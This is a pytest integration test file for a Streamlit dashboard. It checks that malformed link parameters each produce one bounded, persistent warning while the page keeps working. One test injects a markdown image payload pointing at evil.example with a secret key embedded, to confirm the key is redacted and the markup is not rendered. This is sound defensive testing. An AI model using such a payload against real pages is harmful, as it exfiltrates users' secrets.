"""Links with something wrong in them: each names it in a line at the top, and the rest of the page works."""

import json

import pytest
from streamlit.testing.v1 import AppTest

from tests.made_runs import seed, week_of_runs
from tests.pages.conftest import KEY, Panel

pytestmark = pytest.mark.integration


def lines(page: AppTest) -> list[str]:
    """What is said about the link, as people read it."""
    return [
        warning.value.replace("\\", "").replace("\u2060", "")
        for warning in page.warning
        if "The link has" in warning.value
    ]


@pytest.mark.parametrize(
    ("params", "said"),
    [
        ({"range": "8d"}, "range = “8d”: allowed are 24h, 7d, 30d, 90d, 1y, Custom."),
        ({"range": "Custom", "range_from": "yesterday"}, "range_from = “yesterday”: allowed is a day up to today,"),
        ({"range": "Custom", "range_to": "2999-01-01"}, "range_to = “2999-01-01”: allowed is a day up to today,"),
        ({"statuses": "Finished"}, "statuses = “Finished”: allowed are Succeeded, Failed, Timed out,"),
        ({"outcomes": "Lucky"}, "outcomes = “Lucky”: allowed are Hit, Stale, Miss, Bypass."),
        ({"types": "poem"}, "types = “poem”: allowed are llm_prompt."),
        ({"cols": "Colour"}, "cols = “Colour”: allowed are Task, Status, Model,"),
        ({"rows": "26"}, "rows = “26”: allowed are 25, 100, 500."),
        ({"sort": "price"}, "sort = “price”: allowed are created, finished,"),
        ({"sort": "cost:up"}, "sort = “cost:up”: allowed are created,"),
        ({"before": "x"}, "before = “x”: it is no place in this list."),
        ({"sort": "cost", "before": "18f.abc"}, "before = “18f.abc”: it is no place in this list."),
        ({"run": "0123nothing"}, "run = “0123nothing”: There is no run '0123nothing'."),
    ],
    ids=lambda value: " ".join(f"{k}={v}" for k, v in value.items()) if isinstance(value, dict) else "",
)
def test_a_link_to_the_history_with_a_wrong_value_shows_the_rest(
    panel: Panel, params: dict[str, str], said: str
) -> None:
    panel.open()
    seed(panel.client.store, week_of_runs(3))
    page = panel.open("history", **params)
    assert not page.exception
    (line,) = lines(page)
    assert said in line
    assert len(page.dataframe[0].value) == 3
    page.run()
    assert lines(page) == [line], "it stays while the page redraws itself"
    page.text_input(key="q").set_value("hello").run()
    assert lines(page) == [], "and goes when something else is asked for"


@pytest.mark.parametrize(
    ("page", "name", "known"),
    [("history", "columns", "cols"), ("run", "priority", "draft"), ("cache", "order", "cache_order")],
)
def test_a_link_that_says_what_the_page_knows_nothing_of(panel: Panel, page: str, name: str, known: str) -> None:
    opened = panel.open(page, **{name: "foo"})
    assert not opened.exception
    (line,) = lines(opened)
    assert line.startswith(f"The link has {name} = “foo”: this page knows ")
    assert known in line
    assert name not in opened.query_params
    opened.run()
    assert lines(opened) == [line], "it stays while the page redraws itself"


def test_everything_wrong_with_a_link_is_said_and_bounded(panel: Panel) -> None:
    panel.open()
    seed(panel.client.store, week_of_runs(3))
    wrong = {name: f"{name} is wrong" for name in ("range", "statuses", "outcomes", "types", "cols", "rows", "sort")}
    page = panel.open("history", before="x" * 5000, run="y" * 5000, **wrong)
    assert not page.exception
    assert len(lines(page)) == 8
    assert max(map(len, lines(page))) < 500
    assert len(page.dataframe[0].value) == 3


def test_a_link_to_the_history_that_is_right_says_nothing(panel: Panel) -> None:
    panel.open()
    seed(panel.client.store, week_of_runs(3))
    link = {"range": "Custom", "range_from": "2020-01-31", "statuses": "Succeeded", "types": "llm_prompt", "rows": "25"}
    page = panel.open("history", cols="Task", sort="cost:asc", outcomes="Miss", models="any/thing", q="x", **link)
    assert not lines(page)
    assert panel.open("cache", range="30d", cache_by="Task").session_state["cache_by"] == "task"


def test_a_link_to_the_cache_with_a_wrong_value_shows_the_rest(panel: Panel) -> None:
    page = panel.open("cache", range="soon", cache_by="weather")
    assert not page.exception
    assert [line.partition(": ")[0] for line in lines(page)] == [
        "The link has range = “soon”",
        "The link has cache_by = “weather”",
    ]
    assert page.session_state["cache_by"] == "model"


@pytest.mark.parametrize(
    ("params", "said"),
    [
        ({"task": "poem"}, "task = “poem”: there is no such task; there are summarise,"),
        ({"run": "0123nothing"}, "run = “0123nothing”: There is no run '0123nothing'."),
        ({"from": "0123nothing"}, "from = “0123nothing”: There is no run '0123nothing'."),
        ({"draft": "gone"}, "draft = “gone”: The form that this link stands for is not kept any more."),
        ({"set": "{cut"}, "set = “{cut”: The settings in this link cannot be read."),
        ({"set": "[1]"}, "set = “[1]”: The settings in this link cannot be read."),
        (
            {"set": json.dumps({"colour": 1})},
            "set = “colour”: there is no such setting; there are schema_version, type,",
        ),
        ({"set": json.dumps({"temperature": "hot"})}, 'set = “{"temperature": "hot"}”: set: temperature'),
        ({"set": json.dumps({"template": "{{ a"})}, 'set = “{"template": "{{ a"}”: set:'),
        ({"var.tone": "loud"}, "var.tone = “loud”: the task has no such variable; it takes text."),
        (
            {"task": "rewrite", "var.tone": "loud"},
            "var.tone = “loud”: The variable ` tone ` is 'loud', allowed",
        ),
    ],
    ids=lambda value: " ".join(f"{k}={v}" for k, v in value.items()) if isinstance(value, dict) else "",
)
def test_a_link_to_a_form_with_a_wrong_value_shows_the_rest(panel: Panel, params: dict[str, str], said: str) -> None:
    page = panel.open("run", **params)
    assert not page.exception
    (line,) = lines(page)
    assert said in line
    assert page.selectbox(key="run.task").value in ("summarise", "rewrite")
    assert not page.button(key="run.start").disabled
    page.run()
    assert lines(page) == [line]


def test_what_looks_like_markup_or_a_key_is_neither(panel: Panel) -> None:
    page = panel.open("run", task=f"![x](http://evil.example/{KEY})")
    (warning,) = page.warning
    assert KEY not in warning.value
    assert "` ![x](http://evil.example/" in warning.value, "in a span of code it loads nothing"


def test_another_page_says_nothing_about_the_link_to_the_one_before(panel: Panel) -> None:
    page = panel.open("cache", range="soon")
    assert lines(page)
    page.switch_page("pages/home.py").run()
    assert not lines(page)
